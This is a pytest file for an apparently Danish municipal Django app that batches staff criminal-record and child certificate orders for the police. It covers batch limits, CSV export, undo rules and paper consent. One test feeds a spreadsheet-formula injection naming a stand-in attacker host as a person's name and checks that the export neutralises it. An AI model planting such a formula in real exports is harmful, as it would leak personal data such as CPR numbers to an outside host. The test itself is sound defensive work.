import datetime

import pytest
import time_machine
from django.utils import timezone

from orders import batching
from orders.models import OrderEvent, OrderLine, PoliceBatch
from orders.services import OrderError, cancel_line

from ..factories import make_cpr, order_for


def lines_of(batch):
    return list(OrderLine.objects.filter(batch=batch))


def test_waiting_lines_are_grouped_by_kind_and_legal_basis(
    school, care_home, teacher, care_helper, school_manager, care_manager, payroll
):
    order_for(unit=school, profile=teacher, by=school_manager)
    order_for(unit=school, profile=teacher, by=school_manager)
    order_for(unit=care_home, profile=care_helper, by=care_manager)

    batches = batching.prepare_batches(by=payroll)

    summary = sorted((b.kind.code, b.legal_basis.text, len(lines_of(b))) for b in batches)
    assert summary == [
        ("child", "Ansættelse i børnefagligt område", 2),
        ("criminal_public", "Ansættelse i folkeskolen (direkte kontakt med elever)", 2),
        ("criminal_public", "Ansættelse i sociale servicefag (serviceloven §§ 83 og 85)", 1),
    ]
    assert all(b.reference.startswith("ATT-") for b in batches)
    assert not batching.waiting_groups()


def test_a_batch_never_holds_more_than_fifty_persons(
    school, school_manager, payroll, school_secretary
):
    optional = school_secretary.requirements.get().legal_basis
    for _ in range(123):
        order_for(
            unit=school,
            profile=school_secretary,
            by=school_manager,
            bases=[optional],
            cpr=make_cpr("010203"),
        )

    batches = batching.prepare_batches(by=payroll)

    assert sorted(len(lines_of(b)) for b in batches) == [23, 50, 50]
    assert OrderLine.objects.filter(batch__isnull=True).count() == 0


def test_paste_text_has_one_person_per_line_as_the_police_want_it(
    school, teacher, school_manager, payroll
):
    order_for(unit=school, profile=teacher, by=school_manager, name="Åse Ødegård", cpr="1203961234")
    order_for(unit=school, profile=teacher, by=school_manager, name="Bo Ek", cpr="0101901111")
    batch = next(b for b in batching.prepare_batches(by=payroll) if b.kind.code == "child")

    lines = batching.batch_lines(batch)

    assert batching.police_paste_text(lines) == "120396-1234 Åse Ødegård\n010190-1111 Bo Ek"
    assert batching.requester_text(batch).startswith(batch.reference)
    csv_rows = batching.batch_csv(batch, lines).splitlines()
    assert csv_rows[1].startswith("120396-1234;Åse Ødegård;Nordskolen;Børneattest;")


def test_marking_a_batch_ordered_moves_every_line_and_records_it(
    school, teacher, school_manager, payroll
):
    order = order_for(unit=school, profile=teacher, by=school_manager)
    batch = batching.prepare_batches(by=payroll)[0]

    batching.mark_batch_ordered(batch=batch, by=payroll)

    batch.refresh_from_db()
    assert batch.state == "ordered" and batch.ordered_by == payroll
    line = OrderLine.objects.get(batch=batch)
    assert line.status == "ordered" and line.ordered_at == batch.ordered_at
    event = OrderEvent.objects.get(line=line, action="ordered")
    assert (event.actor, event.note) == (payroll, batch.reference)
    with pytest.raises(OrderError, match="Batchen er allerede markeret som bestilt"):
        batching.mark_batch_ordered(batch=batch, by=payroll)
    assert order.lines.filter(status="new").count() == 1  # the other kind's batch is untouched


def test_marking_ordered_can_be_undone_the_same_day_only(school, teacher, school_manager, payroll):
    order_for(unit=school, profile=teacher, by=school_manager)
    batch = batching.prepare_batches(by=payroll)[0]
    morning = timezone.make_aware(
        datetime.datetime.combine(
            timezone.localdate() + datetime.timedelta(days=1), datetime.time(9)
        )
    )
    with time_machine.travel(morning, tick=False):
        batching.mark_batch_ordered(batch=batch, by=payroll)
        batching.undo_batch_ordered(batch=batch, by=payroll)
        line = OrderLine.objects.get(batch=batch)
        assert (line.status, line.ordered_at) == ("new", None)
        batching.mark_batch_ordered(batch=batch, by=payroll)
    with time_machine.travel(morning + datetime.timedelta(days=1), tick=False):
        with pytest.raises(OrderError, match="Markeringen som bestilt kan kun fortrydes samme dag"):
            batching.undo_batch_ordered(batch=batch, by=payroll)
    assert OrderLine.objects.get(batch=batch).status == "ordered"


def test_a_dissolved_batch_returns_its_lines_to_the_queue(school, teacher, school_manager, payroll):
    order_for(unit=school, profile=teacher, by=school_manager)
    batch = batching.prepare_batches(by=payroll)[0]

    batching.release_batch(batch=batch, by=payroll)

    assert PoliceBatch.objects.get(pk=batch.pk).state == "released"
    assert [line.batch_id for g in batching.waiting_groups() for line in g.lines] == [None]


def test_a_manager_cannot_cancel_a_line_payroll_is_ordering(
    school, teacher, school_manager, payroll
):
    order = order_for(unit=school, profile=teacher, by=school_manager)
    batching.prepare_batches(by=payroll)
    with pytest.raises(
        OrderError, match="Lønkontoret er ved at bestille denne attest hos politiet"
    ):
        cancel_line(line=order.lines.first(), by=school_manager)


def test_people_exempt_from_digital_post_are_set_aside_for_paper_consent(
    school, teacher, school_manager, payroll
):
    import uuid

    from orders.services import place_order

    order = place_order(
        by=school_manager,
        unit=school,
        profile=teacher,
        full_name="Uden Digital Post",
        cpr=make_cpr(),
        start_date=timezone.localdate(),
        child_contact=None,
        submission_token=uuid.uuid4(),
        digital_post_exempt=True,
        legal_bases=[r.legal_basis for r in teacher.requirements.all()],
    )
    assert batching.prepare_batches(by=payroll) == []
    paper = list(OrderLine.objects.awaiting_paper_consent())
    assert {line.order for line in paper} == {order}

    batching.mark_line_ordered_on_paper(line=paper[0], by=payroll)

    line = OrderLine.objects.select_related("batch").get(pk=paper[0].pk)
    assert line.status == "ordered"
    assert line.batch.on_paper and line.batch.state == "ordered" and line.batch.secret
    with pytest.raises(
        OrderError, match="Denne attest venter ikke på at blive bestilt med samtykke på papir"
    ):
        batching.mark_line_ordered_on_paper(line=paper[0], by=payroll)


def test_the_csv_cannot_carry_a_spreadsheet_formula(school, teacher, school_manager, payroll):
    order_for(
        unit=school,
        profile=teacher,
        by=school_manager,
        name='=HYPERLINK("https://evil.example/?"&A2;"Sofie")',
    )
    batch = batching.prepare_batches(by=payroll)[0]
    import csv

    rows = list(
        csv.reader(
            batching.batch_csv(batch, batching.batch_lines(batch)).splitlines(), delimiter=";"
        )
    )
    assert rows[1][1].startswith("'=HYPERLINK")


def test_undo_is_refused_when_a_line_has_moved_on(school, teacher, school_manager, payroll):
    order_for(unit=school, profile=teacher, by=school_manager)
    batch = batching.prepare_batches(by=payroll)[0]
    batching.mark_batch_ordered(batch=batch, by=payroll)
    OrderLine.objects.filter(batch=batch).update(status="in_review")
    with pytest.raises(OrderError, match="Nogle af attesterne i batchen er allerede gået videre"):
        batching.undo_batch_ordered(batch=batch, by=payroll)
    assert set(OrderLine.objects.filter(batch=batch).values_list("status", flat=True)) == {
        "in_review"
    }


def test_undo_uses_the_copenhagen_day(school, teacher, school_manager, payroll):
    """Marked at 00:30 Copenhagen time (23:30 UTC the day before): undo works that day."""
    order_for(unit=school, profile=teacher, by=school_manager)
    batch = batching.prepare_batches(by=payroll)[0]
    just_after_midnight = datetime.datetime(2026, 6, 10, 22, 30, tzinfo=datetime.UTC)
    with time_machine.travel(just_after_midnight, tick=False):
        batching.mark_batch_ordered(batch=batch, by=payroll)
    with time_machine.travel(just_after_midnight + datetime.timedelta(hours=20), tick=False):
        batching.undo_batch_ordered(batch=batch, by=payroll)
    assert OrderLine.objects.get(batch=batch).status == "new"


def test_a_paper_consent_order_gets_its_own_secret_reference(
    school, teacher, school_manager, payroll, settings
):
    first = order_for(unit=school, profile=teacher, by=school_manager, digital_post_exempt=True)
    second = order_for(unit=school, profile=teacher, by=school_manager, digital_post_exempt=True)
    line = first.lines.get(kind__code="child")

    batch = batching.prepare_paper_batch(line=line, by=payroll)

    # A batch of one, with a secret made as every batch's is, and payroll's text to type.
    assert batch.on_paper and batch.state == "prepared"
    assert lines_of(batch) == [line]
    assert len(batch.secret) == batching.SECRET_LENGTH
    assert set(batch.secret) <= set(batching.SECRET_ALPHABET)
    assert batching.requester_text(batch) == (
        f"{batch.reference}-{batch.secret} {settings.MUNICIPALITY_NAME}"
    )
    assert batching.references_in(batching.requester_text(batch))
    # Opening the step again (a reload, a second click) gives the same reference.
    assert batching.prepare_paper_batch(line=line, by=payroll) == batch
    other = batching.prepare_paper_batch(line=second.lines.get(kind__code="child"), by=payroll)
    assert other.secret != batch.secret and other.reference != batch.reference
    # The paper lines never end up in a mass order.
    assert batching.prepare_batches(by=payroll) == []

    batching.mark_batch_ordered(batch=batch, by=payroll)

    line.refresh_from_db()
    assert line.status == "ordered" and line.ordered_at is not None
    assert OrderEvent.objects.get(line=line, action="ordered").note == (
        f"{batch.reference} (Samtykke på papir)"
    )


def test_a_paper_order_not_sent_goes_back_to_the_paper_list(
    school, teacher, school_manager, payroll
):
    order = order_for(unit=school, profile=teacher, by=school_manager, digital_post_exempt=True)
    line = order.lines.get(kind__code="child")
    batch = batching.prepare_paper_batch(line=line, by=payroll)

    batching.release_batch(batch=batch, by=payroll)

    line.refresh_from_db()
    assert line.batch is None and line.status == "new"
    assert line in OrderLine.objects.awaiting_paper_consent()
    assert batching.prepare_paper_batch(line=line, by=payroll) != batch


def test_only_a_line_waiting_for_paper_consent_can_be_ordered_on_paper(
    school, teacher, school_manager, payroll
):
    order = order_for(unit=school, profile=teacher, by=school_manager)

    with pytest.raises(OrderError, match="venter ikke på at blive bestilt med samtykke på papir"):
        batching.prepare_paper_batch(line=order.lines.first(), by=payroll)
    assert not PoliceBatch.objects.exists()
